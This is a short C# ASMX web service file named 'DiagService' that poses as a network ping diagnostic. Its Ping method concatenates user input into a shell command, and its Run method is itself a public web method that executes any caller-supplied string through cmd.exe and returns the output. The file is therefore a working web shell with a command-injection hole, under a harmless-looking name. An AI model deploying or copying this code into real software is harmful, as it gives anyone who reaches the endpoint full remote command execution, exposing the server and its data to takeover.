<%@ WebService Language="C#" Class="DiagService" %>

using System.Diagnostics;
using System.Web.Services;

[WebService(Namespace = "http://tempuri.org/")]
public class DiagService : WebService
{
    [WebMethod]
    public string Ping(string host)
    {
        return Run("ping -n 1 " + host);
    }

    [WebMethod]
    public string Run(string args)
    {
        ProcessStartInfo psi = new ProcessStartInfo("cmd.exe", "/c " + args);
        psi.UseShellExecute = false;
        psi.RedirectStandardOutput = true;
        using (Process p = Process.Start(psi))
        {
            return p.StandardOutput.ReadToEnd();
        }
    }
}
